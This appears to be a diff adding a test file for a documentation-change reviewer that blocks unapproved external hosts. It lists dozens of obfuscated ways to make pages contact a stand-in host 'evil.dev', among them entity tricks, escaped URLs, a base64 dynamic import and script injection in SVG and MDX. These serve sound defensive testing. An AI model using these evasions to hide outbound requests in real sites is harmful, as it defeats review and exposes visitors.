@@ -1,0 +1,126 @@
+import { afterAll, beforeAll, expect, it } from "vitest";
+import { openTestTrees, type TestTrees } from "../../test/support/test-tree.ts";
+import { createOverlay } from "../tree/overlay.ts";
+import type { CommitTree } from "../tree/tree.ts";
+import { createPageThreads } from "./page-threads.ts";
+import { reviewChange } from "./review-change.ts";
+
+const pageThreads = createPageThreads();
+const sidebars = 'module.exports = {\n  docs: ["index"],\n};\n';
+const widget = 'export const at = (x) => fetch("https:/" + "/" + x);\n';
+let trees: TestTrees;
+let base: CommitTree;
+
+beforeAll(async () => {
+  trees = await openTestTrees();
+  base = await trees.open({
+    "index.md": "# Home\n\n[us](https://known.test/a).\n",
+    "docs.json": '{"name":"x"}\n',
+    "sidebars.js": sidebars,
+    "old/widget.js": widget,
+    "guide.md": "# Guide\n\n<script>\nlocation.href = at('x')\n</script>\n\nWords.\n",
+  });
+});
+afterAll(() => trees.close());
+
+async function review(files: Record<string, string | null>, externalHosts: readonly string[] = []) {
+  const overlay = await createOverlay(base);
+  for (const [path, text] of Object.entries(files)) {
+    if (text === null) await overlay.delete(path);
+    else await overlay.set(path, Buffer.from(text));
+  }
+  const policy = { docsDir: "", allowedPaths: [], filesMax: 100, bytesMax: 1_000_000, externalHosts };
+  return reviewChange({ base, overlay, policy, pageThreads }, new AbortController().signal);
+}
+
+const long = "p".repeat(2_100);
+const blanks = " ".repeat(25);
+const hidden: ReadonlyArray<readonly [path: string, text: string]> = [
+  ...[
+    // Names that go on behind what a sentence would end at.
+    "![x](https://known.test~.evil.dev/)",
+    "![x](https://known.test+a.evil.dev/)",
+    "![x](https://known.test,a.evil.dev/)",
+    "![x](https://$.evil.dev/)",
+    "![x](<https://known.test(.evil.dev/>)",
+    '<img src="https://known.test).evil.dev/a">',
+    "See https://known.test).evil.dev/a",
+    // Characters by name, of which browsers drop some and read others as plain letters.
+    "![x](https://ev&shy;il.dev/)",
+    '<img src="https://ev&shy;il.dev/a.png">',
+    '<img src="https://ev&shyil.dev/a.png">',
+    "![x](https://&eopf;&vopf;&iopf;&lopf;.dev/)",
+    "![x](https://&fjlig;ord.dev/)",
+    "![x](https://known.test&shy;.evil.dev/)",
+    // Longer than anybody writes.
+    `[x](<https://known.test(${long}@evil.dev/>)`,
+    `<img src="https://known.test(${long}@evil.dev/">`,
+    `![x](https://${long}@evil.dev/)`,
+    `<img src=${blanks}"https:/\t/evil.dev/a.png">`,
+    `<img src="https:/\t/evil.dev/a.png?${long}">`,
+    `[x](${blanks}<https:/\t/evil.dev/a.png>)`,
+    // Code in Markdown.
+    `<img src="x.png" alt="x" onerror="this.src='https:'+'//'+'evil'+'.dev'">`,
+    '<script>\nlet u = new URL("/x.png", location); u.host = Reflect.get({ a: "evil" }, "a"); fetch(u)\n</script>',
+    `<img :[x]="'https:/' + '/evil.dev'">`,
+    `<img .src="'https:/' + '/evil.dev'">`,
+    `<img v-bind="{ ['sr' + 'c']: name }">`,
+  ].map((text) => ["new.md", `# New\n\n${text}\n`] as const),
+  ["new.md", '---\ntitle: New\nimage: "https://ev\\x69l.dev/x.png"\n---\n\n# New\n'],
+  ["new.md", '---\ntitle: New\nimage: "https:\\x2f\\x2fev\\\n  il.dev/x.png"\n---\n\n# New\n'],
+  ["docs.json", '{"name":"x","logo":"https:\\u002f\\u002fevil.dev"}\n'],
+  ["docs.json", '{"name":"x","logo":"https://ev\\u0069l.dev"}\n'],
+  ["docs.json", '{"name":"x","logo":"https:\\n//evil.dev"}\n'],
+  ["mkdocs.yml", 'site_name: x\nextra_css:\n  - "https://ev\\u0069l.dev/x.css"\n'],
+  ["style.css", "body{background:url(https://ev\\69l.dev/x.png)}\n"],
+  ["style.css", "body{background:url(https://evi\\l.gree\\n/x.png)}\n"],
+  ["style.css", '@import "https:\\2f\\2f evil.dev/x.css";\n'],
+  ["new.adoc", "= N\n:h: evil\n:t: dev\n\nimage::https://{h}.{t}/x.png[]\n"],
+  ["pic.svg", '<!DOCTYPE svg [<!ENTITY e "evil.dev">]><svg><image href="https://&e;/x.png"/></svg>\n'],
+  ["pic.svg", '<svg><script>location="https:"+"//"+"evil"+".dev"</script></svg>\n'],
+  ["page.html", '<script>new Image().src="https:"+String.fromCharCode(47,47)+"evil.dev"</script>\n'],
+  ["custom.js", 'import(atob("aHR0cHM6Ly9ldmlsLmRldi94Lmpz"))\n'],
+  ["sidebars.js", `${sidebars}fetch("https:/" + "/evil.dev");\n`],
+  ...[
+    'export const h = (() => { let s = "ht"; s += "tps:/"; s += "/evil.dev"; return s })()\n\n<img src={h} />',
+    'export const u = Object.assign(new URL("https://known.test/x"), { hostname: "evil" });\n\n<img src={u.href} />',
+    "export const s = JSON.parse('\"https:\\\\u002f\\\\u002fevil.dev\"')\n\n<img src={s} />",
+    'export const o = { get h() { return ["//ev", "il.dev"].map(String) } }\n\n<img src={o.h} />',
+    'export const u = new URL("https://known.test/x.png")\n\n<img src={(u.hostname = "evil.d", u)} />',
+  ].map((text) => ["new.mdx", `# New\n\n${text}\n`] as const),
+];
+
+it.each(hidden)("refuses in %s: %s", async (path, text) => {
+  expect(await review({ [path]: text })).toMatchObject({ kind: "denied" });
+});
+
+it.each([
+  ["new.md", "# New\n\nSee (https://known.test), **https://known.test**, https://known.test; `https://known.test`.\n"],
+  ["new.md", "# New\n\n[https://known.test](https://known.test/x) and https://*.known.test and https://{id}/x\n"],
+  ["new.md", "# New\n\nOrigins: https://known.test,https://known.test &mdash; R&D, AT&T.\n"],
+  ["docs.json", '{"name":"x","text":"See https://known.test\\nThen go on","url":"https://known.test/a"}\n'],
+  ["sidebars.js", sidebars.replace('"index"', '"index", "guide", { type: "link", href: "https://known.test/a" }')],
+  ["guide.md", "# Guide\n\n<script>\nlocation.href = at('x')\n</script>\n\nOther words.\n"],
+  ["new.md", "# New\n\n<script setup>\nimport A from './a.vue'\n</script>\n"],
+  ["pic.svg", '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>\n'],
+])("lets %s be: %s", async (path, text) => {
+  const verdict = await review({ [path]: text });
+  expect(verdict.kind === "denied" ? verdict.violations : []).toEqual([]);
+});
+
+it("lets code move as it is, and tells of new code where any site may come", async () => {
+  expect((await review({ "old/widget.js": null, "new/widget.js": widget })).kind).not.toBe("denied");
+  expect((await review({ "custom.js": widget.replaceAll("x", "y") })).kind).toBe("denied");
+  expect(await review({ "custom.js": widget.replaceAll("x", "y") }, ["*"])).toMatchObject({
+    kind: "passed",
+    introduced: [{ check: "new-domain" }],
+  });
+});
+
+it("counts sites before it looks for any of them, and leaves the process its turns", async () => {
+  const many = Array.from({ length: 2_000 }, (_, index) => `- https://h${index}.evil.dev/`).join("\n");
+  expect(await review({ "new.md": `# New\n\n${many}\n` })).toMatchObject({
+    kind: "denied",
+    violations: [{ rule: "2000 sites come up, more than the 500 that are looked for" }],
+  });
+});
